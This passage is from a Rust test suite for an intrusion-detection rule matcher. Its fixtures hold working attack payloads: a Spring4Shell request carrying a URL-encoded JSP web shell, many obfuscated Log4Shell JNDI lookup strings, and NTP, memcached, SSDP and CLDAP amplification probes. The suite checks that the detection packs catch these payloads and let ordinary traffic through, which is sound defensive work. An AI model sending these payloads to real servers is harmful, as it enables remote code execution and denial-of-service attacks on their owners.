    assert!(m(o, b"ab"));
    assert!(!m(o, b"a-b"));
    assert!(m(o, b"ab---z"), "z before its window");
    assert!(!m(o, b"ab----z"));
}

#[test]
fn nocase_and_negation() {
    assert!(!m(r#"content:"abc";"#, b"xABCx"));
    assert!(m(r#"content:"abc"; nocase;"#, b"xABCx"));
    assert!(m(r#"content:"ABC"; nocase;"#, b"xabcx"));
    assert!(!m(r#"content:"|c3 a9|"; nocase;"#, b"\xc3\x89"), "case folding is ASCII only");
    let o = r#"content:"GET"; content:!"admin";"#;
    assert!(m(o, b"GET /x"));
    assert!(!m(o, b"GET /admin"));
    let o = r#"content:"x"; content:!"y"; depth:2;"#;
    assert!(m(o, b"x-y"), "y outside its window");
    assert!(!m(o, b"yx"));
    let o = r#"content:"a"; content:!"b"; distance:0; within:1;"#;
    assert!(m(o, b"abac"), "the second a is not followed by b");
    assert!(!m(o, b"abab"));
    assert!(m(o, b"a"), "nothing follows");
    let o = r#"content:"a"; content:!"B"; nocase; distance:0; within:1;"#;
    assert!(!m(o, b"ab"));
    let o = r#"content:".jsp"; endswith;"#;
    assert!(m(o, b"/a.jsp"));
    assert!(!m(o, b"/a.jsp?x"));
    assert!(m(o, b"/a.jsp.jsp"));
    let o = r#"content:"a"; content:"b"; distance:0; endswith;"#;
    assert!(m(o, b"a-b"));
    assert!(!m(o, b"b-a"));
}

#[test]
fn backtracking() {
    // Only the third "a" is followed by "b".
    let o = r#"content:"a"; content:"b"; distance:0; within:1;"#;
    assert!(m(o, b"a-a-ab"));
    // The middle content must move: y1, y2 fail; the third y is followed by z.
    let o = r#"content:"x"; content:"y"; distance:0; content:"z"; distance:0; within:1;"#;
    assert!(m(o, b"xy1y2yz"));
    assert!(!m(o, b"xy1y2y"));
    assert!(!m(o, b"zxy1"), "z before x does not count");
    // The first content must move although the second matched after it.
    let o = r#"content:"ab"; content:"cd"; distance:0; within:3; content:"ef"; distance:0; within:2;"#;
    assert!(m(o, b"abcd--ab-cd--ab-cdef"));
    assert!(!m(o, b"abcd--ab-cd--ab-cd-ef"));
    // An absolute content after relative ones does not need them to move,
    // but a relative chain after it backtracks on its own.
    let o = r#"content:"a"; content:"b"; distance:0; within:1; content:"c"; content:"d"; distance:1; within:1;"#;
    assert!(m(o, b"ab c-xc-d"));
    assert!(!m(o, b"ab c-xc-x"));
    // Negated relative content forces the anchor on.
    let o = r#"content:"GET "; content:"/"; distance:0; content:!"admin"; distance:0; within:5;"#;
    assert!(m(o, b"GET /admin/ok/"), "the second / is not followed by admin");
    assert!(!m(o, b"GET /admin"));
}

#[test]
fn backtracking_is_bounded() {
    // Exhaustive search would take C(4000, 3) steps: the budget stops it as no match.
    let o = r#"content:"a"; content:"a"; distance:0; content:"a"; distance:0; content:"b"; distance:0; within:1;"#;
    let payload = vec![b'a'; 4000];
    let start = Instant::now();
    assert!(!m(o, &payload));
    assert!(start.elapsed() < Duration::from_secs(5), "took {:?}", start.elapsed());
    // A match found early is still found.
    let mut payload = vec![b'a'; 4000];
    payload[10] = b'b';
    assert!(m(o, &payload));
}

#[test]
fn sticky_buffers_match_their_regions() {
    let req = b"POST /login?next=/admin HTTP/1.1\r\nHost: Shop.Example\r\nUser-Agent: curl/8.0\r\nContent-Length: 9\r\n\r\nuser=root";
    assert!(m(r#"http.method; content:"POST";"#, req));
    assert!(!m(r#"http.method; content:"GET";"#, req));
    assert!(m(r#"http.method; content:"POST"; startswith;"#, req));
    assert!(m(r#"http.uri; content:"/admin"; endswith;"#, req));
    assert!(!m(r#"http.uri; content:"HTTP";"#, req), "the version is not part of the URI");
    assert!(m(r#"http.host; content:"shop.example"; nocase; startswith;"#, req));
    assert!(!m(r#"http.host; content:"shop.example";"#, req), "the host is raw, not lower-cased");
    assert!(m(r#"http.header; content:"User-Agent|3a 20|curl";"#, req));
    assert!(!m(r#"http.header; content:"POST";"#, req), "the request line is not in the header");
    assert!(m(r#"http.header; content:"Host:"; startswith;"#, req));
    assert!(
        m(r#"http.header; content:"Length: 9|0d 0a|"; endswith;"#, req),
        "the header ends with the last line's CRLF"
    );
    assert!(m(r#"http.request_body; content:"user="; startswith;"#, req));
    assert!(m(r#"http.request_body; content:"root"; endswith;"#, req));
    assert!(!m(r#"http.request_body; content:"curl";"#, req));
    assert!(!m(r#"http.uri; content:"curl";"#, req));
    assert!(m(r#"content:"POST"; startswith; content:"root"; endswith;"#, req), "the payload is everything");
    // Legacy modifiers use the same regions.
    assert!(m(r#"content:"/admin"; http_uri;"#, req));
    assert!(!m(r#"content:"curl"; http_uri;"#, req));
    // Every buffer of the rule must match.
    assert!(m(r#"http.method; content:"POST"; http.uri; content:"login";"#, req));
    assert!(!m(r#"http.method; content:"GET"; http.uri; content:"login";"#, req));
    // Relative contents are relative within their own buffer only.
    assert!(m(r#"http.uri; content:"login"; http.header; content:"Host"; distance:0; within:4;"#, req));
    assert!(!m(r#"http.uri; content:"login"; http.header; content:"Host"; distance:6;"#, req));
    // HTTP buffers never match a non-HTTP payload; the payload buffer does.
    let not_http = b"user=root /admin";
    assert!(!m(r#"http.uri; content:"/admin";"#, not_http));
    assert!(m(r#"content:"/admin";"#, not_http));
    let r = opts(r#"http.uri; content:"/admin";"#);
    assert!(!r.matches_payload(req, None));
    // Regions that do not fit the payload match nothing.
    let bogus = HttpRegions { method: 0..4, uri: 5..500, host: 0..0, header: 0..0, body: 0..0 };
    assert!(!r.matches_payload(req, Some(&bogus)));
}

// ---- HTTP regions -----------------------------------------------------------

fn region<'a>(p: &'a [u8], r: &std::ops::Range<usize>) -> &'a [u8] {
    &p[r.clone()]
}

#[test]
fn http_regions_of_requests() {
    let p = b"GET /a?b=c HTTP/1.1\r\nHost:  example.org \r\nAccept: */*\r\n\r\nbody";
    let r = http_regions(p).unwrap();
    assert_eq!(region(p, &r.method), b"GET");
    assert_eq!(region(p, &r.uri), b"/a?b=c");
    assert_eq!(region(p, &r.host), b"example.org");
    assert_eq!(region(p, &r.header), b"Host:  example.org \r\nAccept: */*\r\n");
    assert_eq!(region(p, &r.body), b"body");

    // Cut inside the header block: the header runs to the end, no body.
    let p = b"POST /x HTTP/1.0\r\nhOsT: h\r\nUser-Agent: ${jndi:ld";
    let r = http_regions(p).unwrap();
    assert_eq!(region(p, &r.host), b"h");
    assert_eq!(region(p, &r.header), b"hOsT: h\r\nUser-Agent: ${jndi:ld");
    assert!(r.body.is_empty() && r.body.start == p.len());

    // No headers at all; no Host.
    let p = b"GET / HTTP/1.1\r\n\r\n";
    let r = http_regions(p).unwrap();
    assert!(r.header.is_empty() && r.host.is_empty() && r.body.is_empty());
    assert_eq!(r.host.start, r.header.start);
    let p = b"GET / HTTP/1.1\r\n";
    let r = http_regions(p).unwrap();
    assert!(r.header.is_empty() && r.body.is_empty());

    // Bare LF line ends, a lower-case version (normalised payloads), the first Host wins.
    let p = b"get /x http/1.1\nHost: a\nHost: b\n\nz";
    let r = http_regions(p).unwrap();
    assert_eq!(region(p, &r.host), b"a");
    assert_eq!(region(p, &r.header), b"Host: a\nHost: b\n");
    assert_eq!(region(p, &r.body), b"z");

    // A header cut inside a Host line.
    let p = b"GET / HTTP/1.1\r\nHost: exam";
    assert_eq!(region(p, &http_regions(p).unwrap().host), b"exam");
    // A header that only starts with "host".
    let p = b"GET / HTTP/1.1\r\nHostname: x\r\n\r\n";
    assert!(http_regions(p).unwrap().host.is_empty());

    // Not requests.
    for p in [
        &b""[..],
        b"GET / HTTP/1.1",
        b"HTTP/1.1 200 OK\r\n\r\n",
        b"GET /\r\n",
        b"GET  HTTP/1.1\r\n",
        b" / HTTP/1.1\r\n",
        b"G(T / HTTP/1.1\r\n",
        b"GET / HTTP/2.0\r\n",
        b"GET / HTTP/1.x\r\n",
        b"\x17\x00\x03\x2a\n",
        b"SSH-2.0-OpenSSH_9.6\r\n",
    ] {
        assert_eq!(http_regions(p), None, "{:?}", String::from_utf8_lossy(p));
    }
}

// ---- normaliser ----------------------------------------------------------------

fn norm(s: &str) -> String {
    String::from_utf8(normalise(s.as_bytes())).unwrap()
}

#[test]
fn normaliser_percent_decoding_and_case() {
    assert_eq!(norm("%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D"), "${jndi:ldap://h/a}");
    assert_eq!(norm("%2524%257Bjndi%253A"), "${jndi:", "double encoding");
    assert_eq!(norm("%25252524"), "$", "four rounds");
    assert_eq!(norm("%2525252524"), "%24", "at most four rounds");
    assert_eq!(norm("%4A%4e%44%49"), "jndi");
    assert_eq!(norm("a+b%20c"), "a+b c", "+ is not a space");
    assert_eq!(norm("100% sure %zz %4"), "100% sure %zz %4");
    assert_eq!(norm("%"), "%");
    assert_eq!(norm("MiXeD CaSe"), "mixed case");
    assert_eq!(normalise(b"\xc3\x89\xff%C3%89"), b"\xc3\x89\xff\xc3\x89", "non-ASCII bytes are kept");
    assert_eq!(norm(""), "");
}

#[test]
fn normaliser_log4j_lookups() {
    let cases = [
        ("${jndi:ldap://h/a}", "${jndi:ldap://h/a}"),
        ("${JnDi:LdAp://h/a}", "${jndi:ldap://h/a}"),
        ("${${lower:j}ndi:ldap://h/a}", "${jndi:ldap://h/a}"),
        ("${${upper:j}ndi:${upper:l}${upper:d}a${lower:p}://h/a}", "${jndi:ldap://h/a}"),
        ("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://h/a}", "${jndi:rmi://h/a}"),
        ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//h/a}", "${jndi:ldap://h/a}"),
        ("${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//h/a}", "${jndi:ldap://h/a}"),
        ("${${lower:${lower:jndi}}:${lower:rmi}://h/a}", "${jndi:rmi://h/a}"),
        ("${${lower:jndi}:${lower:rmi}://h/a}", "${jndi:rmi://h/a}"),
        ("${${::-j}ndi:rmi://h/a}", "${jndi:rmi://h/a}"),
        ("${jndi:${lower:l}${lower:d}a${lower:p}://h/a}", "${jndi:ldap://h/a}"),
        ("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://h/a}", "${jndi:ldap://h/a}"),
        ("${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://h/a}", "${jndi:ldap://h/a}"),
        ("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://h/a}", "${jndi:ldap://h/a}"),
        ("${${date:'jn'}di:dns://h}", "${jndi:dns://h}"),
        ("${j${::-n}di:dns://h/a}", "${jndi:dns://h/a}"),
        ("${jndi:dns://h/${env:user}}", "${jndi:dns://h/${env:user}}"),
        ("${${lower:${upper:j}}ndi:iiop://h}", "${jndi:iiop://h}"),
        ("${${:-j}ndi:nis://h}", "${jndi:nis://h}"),
        (
            "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:l}${lower:d}${lower:a}${lower:p}://h}",
            "${jndi:ldap://h}",
        ),
        ("%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fh%7D", "${jndi:ldap://h}"),
        ("%2524%257B%2524%257B%253A%253A-j%257Dndi:ldap://h%257D", "${jndi:ldap://h}"),
        ("${jndi:ldap://h:1389/a}", "${jndi:ldap://h:1389/a}"),
        ("${jndi:ldap://h:-1/a}", "${jndi:ldap://h:-1/a}"),
        // Not lookups, or not ones we resolve: kept.
        ("${name}", "${name}"),
        ("${env:HOME}", "${env:home}"),
        ("${date:yyyy}", "${date:yyyy}"),
        ("${}", "${}"),
        ("${${lower:j}ndi:ldap://h", "${jndi:ldap://h"),
        ("${", "${"),
        ("}}}${{", "}}}${{"),
        ("$${lower:x}", "$x"),
        ("$ {lower:x}", "$ {lower:x}"),
        ("q=jndi+tutorial", "q=jndi+tutorial"),
    ];
    for (input, want) in cases {
        assert_eq!(norm(input), want, "input {input:?}");
    }
}

#[test]
fn normaliser_is_bounded() {
    // Capped input.
    let long = vec![b'A'; 3 * MAX_NORMALISE_INPUT];
    assert_eq!(normalise(&long), vec![b'a'; MAX_NORMALISE_INPUT]);
    // Quadratic traps: many unclosed lookups, deep nesting, many closings.
    let traps: Vec<Vec<u8>> = vec![
        b"${".repeat(50_000),
        [b"${".repeat(20_000), b"}".repeat(20_000)].concat(),
        b"${a:-".repeat(10_000),
        b"%25".repeat(30_000),
        b"${lower:".repeat(10_000),
        [b"${".repeat(100), b"x:-".repeat(5_000), b"}".repeat(100)].concat(),
    ];
    for t in &traps {
        let start = Instant::now();
        let out = normalise(t);
        assert!(out.len() <= MAX_NORMALISE_INPUT);
        assert!(start.elapsed() < Duration::from_millis(500), "{:?} for {:?}...", start.elapsed(), &t[..10]);
    }
    // Deep but closed nesting still collapses up to the depth limit.
    let deep = format!("{}j{}ndi:ldap://h}}", "${lower:".repeat(20), "}".repeat(20));
    assert_eq!(norm(&format!("${{{deep}")), "${jndi:ldap://h}");
}

#[test]
fn normalise_request_keeps_the_structure() {
    let p = b"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fh%7D%0D%0AHost:%20evil HTTP/1.1\r\nHost: Shop.Example\r\nUser-Agent: ${${LOWER:J}ndi:${::-l}dap://h/a}\r\n\r\nx=%41";
    let (n, r) = normalise_request(p);
    let r = r.unwrap();
    assert_eq!(region(&n, &r.method), b"GET", "the method is kept as sent");
    assert_eq!(region(&n, &r.uri), b"/?q=${jndi:ldap://h}\r\nhost: evil");
    assert_eq!(region(&n, &r.host), b"shop.example");
    assert_eq!(region(&n, &r.header), b"host: shop.example\r\nuser-agent: ${jndi:ldap://h/a}\r\n");
    assert_eq!(region(&n, &r.body), b"x=a");
    let (n, r) = normalise_request(b"not %41 request");
    assert_eq!((n.as_slice(), r), (&b"not a request"[..], None));
}

// ---- the packs against traffic ----------------------------------------------

const SPRING_PATTERN: &str = "%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20int%20a%20%3D%20-1%3B%20byte%5B%5D%20b%20%3D%20new%20byte%5B2048%5D%3B%20while((a%3Din.read(b))!%3D-1)%7B%20out.println(new%20String(b))%3B%20%7D%20%7D%20%25%7Bsuffix%7Di";

fn spring_params() -> String {
    let p = "class.module.classLoader.resources.context.parent.pipeline.first";
    format!("{p}.pattern={SPRING_PATTERN}&{p}.suffix=.jsp&{p}.directory=webapps/ROOT&{p}.prefix=tomcatwar&{p}.fileDateFormat=")
}

#[test]
fn spring4shell_exploits_match() {
    let rules = pack("spring4shell.rules").rules;
    let get = format!(
        "GET /app/greeting?{} HTTP/1.1\r\nHost: victim.example:8080\r\nsuffix: %>//\r\nc1: Runtime\r\nc2: <%\r\nDNT: 1\r\n\r\n",
        spring_params()
    );
    assert_eq!(tcp_hits(&rules, 8080, get.as_bytes()), [9000001, 9000003, 9000005]);
    let body = spring_params();
    let post = format!(
        "POST /app/greeting HTTP/1.1\r\nHost: victim.example\r\nUser-Agent: python-requests/2.27.1\r\nsuffix: %>//\r\nc1: Runtime\r\nc2: <%\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    assert_eq!(tcp_hits(&rules, 80, post.as_bytes()), [9000002, 9000004, 9000005]);
    // The body in a segment of its own.
    assert_eq!(tcp_hits(&rules, 80, body.as_bytes()), [9000005]);
    // Multipart form data.
    let multipart = "POST /upload HTTP/1.1\r\nHost: v\r\nContent-Type: multipart/form-data; boundary=XX\r\n\r\n--XX\r\nContent-Disposition: form-data; name=\"class.module.classLoader.resources.context.parent.pipeline.first.suffix\"\r\n\r\n.jsp\r\n--XX--\r\n";
    assert_eq!(tcp_hits(&rules, 80, multipart.as_bytes()), [9000002, 9000004, 9000005]);
    // The vulnerability probe, with encoded dots, with brackets, in mixed case.
    for uri in [
        "/?class.module.classLoader.DefaultAssertionStatus=nonsense",
        "/?class%2Emodule%2EclassLoader%2EDefaultAssertionStatus=nonsense",
        "/?class%2emodule.classLoader.URLs%5B0%5D=0",
        "/?class[module][classLoader][resources]=x",
        "/?Class.Module.ClassLoader.resources.context.parent.pipeline.first.pattern=x",
    ] {
        let req = format!("GET {uri} HTTP/1.1\r\nHost: v\r\n\r\n");
        let h = tcp_hits(&rules, 80, req.as_bytes());
        assert!(h.contains(&9000003), "{uri}: {h:?}");
    }
    // Encoded separators in a POST body.
    let post = "POST / HTTP/1.1\r\nHost: v\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nclass%2Emodule%2EclassLoader%2Eresources%2Econtext%2Eparent%2Epipeline%2Efirst%2Epattern=x";
    assert_eq!(tcp_hits(&rules, 80, post.as_bytes()), [9000004]);
    // Fully percent-encoded names escape the literal rules; deep inspection catches them.
    let enc = "GET /?%63lass%2E%6Dodule%2E%63lassLoader%2Eresources%2Econtext%2Eparent%2Epipeline%2Efirst%2Epattern=x HTTP/1.1\r\nHost: v\r\n\r\n";
    assert!(hits(&rules, enc.as_bytes()).is_empty());
    assert_eq!(deep_hits(&rules, enc.as_bytes()), [9000001, 9000003, 9000005]);
}

#[test]
fn log4shell_exploits_match() {
    let rules = pack("log4shell.rules").rules;
    let req = |uri: &str, header: &str| {
        format!("GET {uri} HTTP/1.1\r\nHost: victim.example\r\n{header}\r\nAccept: */*\r\n\r\n")
    };
    // The plain forms, in the headers attackers used and in the URI.
    for (header, sid) in [
        ("User-Agent: ${jndi:ldap://203.0.113.9:1389/Exploit}", 9000101),
        ("X-Api-Version: ${jndi:ldaps://203.0.113.9/a}", 9000101),
        ("Referer: ${jndi:rmi://203.0.113.9:1099/a}", 9000102),
        ("X-Forwarded-For: ${jndi:dns://203.0.113.9/a}", 9000103),
        ("Cookie: x=${jndi:iiop://h/a}", 9000104),
        ("Authorization: Bearer ${JNDI:CORBA://h/a}", 9000105),
        ("User-Agent: ${jndi:nds://h/a}", 9000106),
        ("User-Agent: ${jndi:nis://h/a}", 9000107),
        ("User-Agent: ${jndi:https://h/a}", 9000108),
        ("X-Token: JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hfQ==", 9000130),
    ] {
        let r = req("/", header);
        assert_eq!(tcp_hits(&rules, 80, r.as_bytes()), [sid], "{header}");
        // tcp rules: any port.
        assert_eq!(tcp_hits(&rules, 25, r.as_bytes()), [sid], "{header}");
    }
    let r = req("/?x=${jndi:dns://h/a}", "User-Agent: curl/8.0");
    assert_eq!(tcp_hits(&rules, 80, r.as_bytes()), [9000103]);
    // URL-encoded in the URI and in a form body (http rules: HTTP ports only).
    let r = req("/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", "User-Agent: curl/8.0");
    assert_eq!(tcp_hits(&rules, 80, r.as_bytes()), [9000110]);
    assert!(tcp_hits(&rules, 443, r.as_bytes()).is_empty());
    assert_eq!(deep_hits(&rules, r.as_bytes()), [9000101]);
    let r = req("/?x=$%7Bjndi:ldap://h/a%7D", "User-Agent: curl/8.0");
    assert_eq!(tcp_hits(&rules, 80, r.as_bytes()), [9000110]);
    let post = "POST /login HTTP/1.1\r\nHost: v\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D&pass=x";
    assert_eq!(tcp_hits(&rules, 80, post.as_bytes()), [9000111]);
    let post =
        "POST /login HTTP/1.1\r\nHost: v\r\nContent-Type: application/json\r\n\r\n{\"user\":\"${jndi:ldap://h/a}\"}";
    assert_eq!(tcp_hits(&rules, 80, post.as_bytes()), [9000101]);
    // Obfuscated: caught raw by the obfuscation rules, and as ${jndi:... after normalisation.
    for (header, raw, deep) in [
        ("User-Agent: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://h/a}", &[9000120][..], &[9000101][..]),
        ("User-Agent: ${${upper:j}ndi:ldap://h/a}", &[9000121], &[9000101]),
        ("X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://h/a}", &[9000122], &[9000102]),
        ("User-Agent: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//h/a}", &[9000123], &[9000101]),
        (
            "User-Agent: ${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-d}ns${env:BARFOO:-:}//h/a}",
            &[9000123],
            &[9000103],
        ),
        ("User-Agent: ${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://h/a}", &[9000124], &[9000101]),
        ("User-Agent: ${jndi:${lower:r}mi://h/a}", &[9000120], &[9000102]),
        ("User-Agent: ${${lower:jndi}:${lower:rmi}://h/a}", &[], &[9000102]),
        ("User-Agent: ${j${k8s:k5:-ND}i${sd:k5:-:}ldap://h/a}", &[], &[9000101]),
        ("User-Agent: %24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D", &[], &[9000101]),
        ("Referer: $%7B$%7B::-j%7Dndi:rmi://h/a%7D", &[], &[9000102]),
    ] {
        let r = req("/", header);
        assert_eq!(hits(&rules, r.as_bytes()), raw, "raw {header}");
        assert_eq!(deep_hits(&rules, r.as_bytes()), deep, "normalised {header}");
    }
}

#[test]
fn amplification_requests_match() {
    let rules = pack("amplification.rules").rules;
    let mut monlist = vec![0x17, 0x00, 0x03, 0x2a];
    monlist.resize(48, 0);
    assert_eq!(udp_hits(&rules, 123, &monlist), [9000201]);
    monlist[2] = 2;
    assert_eq!(udp_hits(&rules, 123, &monlist), [9000202]);
    assert!(udp_hits(&rules, 1123, &monlist).is_empty(), "other port");
    let mut client = vec![0x1b];
    client.resize(48, 0);
    assert!(udp_hits(&rules, 123, &client).is_empty(), "an ordinary NTP client request");
    let mut shifted = vec![0];
    shifted.extend(&monlist);
    assert!(udp_hits(&rules, 123, &shifted).is_empty(), "not at offset 0");

    assert_eq!(udp_hits(&rules, 11211, b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n"), [9000210]);
    assert_eq!(udp_hits(&rules, 11211, b"\x12\x34\x00\x00\x00\x01\x00\x00stats slabs\r\n"), [9000210]);
    assert_eq!(udp_hits(&rules, 11211, b"\x00\x01\x00\x00\x00\x01\x00\x00get bigkey\r\n"), [9000211]);
    assert!(udp_hits(&rules, 11211, b"\x00\x01\x00\x00\x00\x01\x00\x00set k 0 0 1\r\nx\r\n").is_empty());
    assert!(udp_hits(&rules, 11211, b"stats\r\n").is_empty(), "no frame header");
    assert!(tcp_hits(&rules, 11211, b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n").is_empty(), "udp only");

    let ssdp =
        b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n";
    assert_eq!(udp_hits(&rules, 1900, ssdp), [9000220]);
    let notify = b"NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNTS: ssdp:alive\r\n\r\n";
    assert!(udp_hits(&rules, 1900, notify).is_empty());

    let cldap: &[u8] = b"\x30\x25\x02\x01\x01\x63\x20\x04\x00\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0bobjectclass\x30\x00";
    assert_eq!(udp_hits(&rules, 389, cldap), [9000230]);
    let long_form: &[u8] = b"\x30\x84\x00\x00\x00\x2d\x02\x01\x63\x63\x84\x00\x00\x00\x24\x04\x00\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0bObjectClass\x30\x84\x00\x00\x00\x00";
    assert_eq!(udp_hits(&rules, 389, long_form), [9000230], "long-form lengths, message id 0x63");
    let bind: &[u8] = b"\x30\x0c\x02\x01\x01\x60\x07\x02\x01\x03\x04\x00\x80\x00";
    assert!(udp_hits(&rules, 389, bind).is_empty());
    // From inside our network: not matched (the rules are about traffic to our reflectors).
    let r = &rules[0];
    assert!(!r.matches(17, ip("192.0.2.10"), 1, ip("192.0.2.11"), 123, &[], &monlist, None));
}

#[test]
fn ordinary_traffic_does_not_match() {
    let rules = all_packs();
    let requests: Vec<&[u8]> = vec![
        b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\n\r\n",
        b"GET /search?q=jndi+tutorial HTTP/1.1\r\nHost: docs.example\r\n\r\n",
        b"GET /search?q=jndi%20ldap%20lookup%20example HTTP/1.1\r\nHost: docs.example\r\n\r\n",
        b"GET /docs/java/jndi/ldap.html HTTP/1.1\r\nHost: docs.example\r\nReferer: https://search.example/?q=what+is+jndi\r\n\r\n",
        b"POST /comment HTTP/1.1\r\nHost: blog.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\ntext=JNDI+lookups+like+%22jndi%3Aldap%22+are+dangerous&name=x",
        b"POST /template HTTP/1.1\r\nHost: app.example\r\n\r\nHello ${name}, your order ${order.id} ships ${date}.",
        b"GET /api/classes?module=billing&loader=lazy HTTP/1.1\r\nHost: api.example\r\n\r\n",
        b"GET /java/docs/api/java.base/java/lang/ClassLoader.html HTTP/1.1\r\nHost: docs.example\r\n\r\n",
        b"POST /graphql HTTP/1.1\r\nHost: api.example\r\nContent-Type: application/json\r\n\r\n{\"query\":\"{ module(id: 1) { class loader } }\"}",
        b"GET /static/app.js HTTP/1.1\r\nHost: cdn.example\r\nCookie: session=JHtfbmRp; theme=dark\r\n\r\n",
        b"SSH-2.0-OpenSSH_9.6\r\n",
    ];
    for req in requests {
        let name = String::from_utf8_lossy(req);
        assert!(tcp_hits(&rules, 80, req).is_empty(), "{name}: {:?}", tcp_hits(&rules, 80, req));
        assert!(deep_hits(&rules, req).is_empty(), "normalised {name}: {:?}", deep_hits(&rules, req));
    }
    let dns_query: &[u8] = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01";
    for port in [53, 123, 389, 1900, 11211] {
        assert!(udp_hits(&rules, port, dns_query).is_empty());
    }
}

// ---- never panics -------------------------------------------------------------

/// xorshift64*: deterministic, no dependencies.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

fn mutate(rng: &mut Rng, input: &[u8]) -> Vec<u8> {
    const SPECIAL: &[u8] = b";:\"\\|()[]!$-{}%,0123456789 \nabcdefx\r\t\xff\xc3";
    let mut out = input.to_vec();
    for _ in 0..1 + rng.below(8) {
        let at = if out.is_empty() { 0 } else { rng.below(out.len() + 1) };
        match rng.below(5) {
            0 if !out.is_empty() && at < out.len() => {
                out.remove(at);
            }
            1 if at < out.len() => out[at] = SPECIAL[rng.below(SPECIAL.len())],
            2 => out.insert(at, SPECIAL[rng.below(SPECIAL.len())]),
            3 if !out.is_empty() => {
                // Duplicate a slice somewhere else.
                let from = rng.below(out.len());
                let len = rng.below(out.len() - from).min(64);
                let piece = out[from..from + len].to_vec();
                let at = rng.below(out.len() + 1);
                out.splice(at..at, piece);
            }
            _ => out.insert(at, (rng.next() & 0xff) as u8),
        }
    }
    out
}

#[test]
fn parser_normaliser_and_matcher_never_panic() {
    let mut seeds: Vec<Vec<u8>> = ["spring4shell.rules", "log4shell.rules", "amplification.rules"]
        .iter()
        .map(|n| std::fs::read(pack_path(n)).unwrap())
        .collect();
    seeds.push(
        br#"drop tcp [1.2.3.4,!$HOME_NET] 1:2 -> any ![80,8080:] (msg:"a\"b\;"; content:!"|0d 0a|x\\"; nocase; offset:1; depth:9; content:"y"; distance:-2; within:4; http.uri; content:"z"; endswith; metadata:a b, edgefilter_ban 5; sid:1;)"#
            .to_vec(),
    );
    let payloads: Vec<Vec<u8>> = vec![
        format!("GET /?{} HTTP/1.1\r\nHost: v\r\n\r\n", spring_params()).into_bytes(),
        b"POST / HTTP/1.1\r\nHost: v\r\nUser-Agent: ${${lower:j}ndi:${::-l}dap://h/a}\r\n\r\nx=%24%7Bjndi%3A".to_vec(),
        b"\x30\x25\x02\x01\x01\x63\x20\x04\x00\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0bobjectclass\x30\x00".to_vec(),
        b"${${${${%24%7B::-j}}}}}}%%%2".to_vec(),
    ];
    let rules = all_packs();
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let vars = vars();
    for i in 0..4000 {
        // Rule text: a mutated pack, or a single mutated line.
        let seed = &seeds[i % seeds.len()];
        let text_bytes = if i % 2 == 0 {
            mutate(&mut rng, seed)
        } else {
            let lines: Vec<&[u8]> = seed.split(|&b| b == b'\n').collect();
            let line = lines[rng.below(lines.len())];
            mutate(&mut rng, line)
        };
        let text = String::from_utf8_lossy(&text_bytes);
        for skip in [false, true] {
            match parse_pack(Path::new("fuzz.rules"), &text, &vars, skip) {
                Ok(p) => {
                    for r in &p.rules {
                        assert!(r.contents.iter().any(|c| !c.negated));
                        assert!(r.contents.iter().all(|c| !c.bytes.is_empty()));
                        let payload = &payloads[i % payloads.len()];
                        let _ = r.matches_payload(payload, http_regions(payload).as_ref());
                    }
                }
                Err(e) => assert!(!e.0.is_empty() && e.0.iter().all(|e| e.line <= text.lines().count().max(1))),
            }
        }
        // Payloads: normaliser, splitter and the packs' rules.
        let payload = mutate(&mut rng, &payloads[i % payloads.len()]);
        let n = normalise(&payload);
        assert!(n.len() <= payload.len().min(MAX_NORMALISE_INPUT));
        if let Some(r) = http_regions(&payload) {
            let ends = [
                r.method.start,
                r.method.end,
                r.uri.start,
                r.uri.end,
                r.header.start,
                r.host.start,
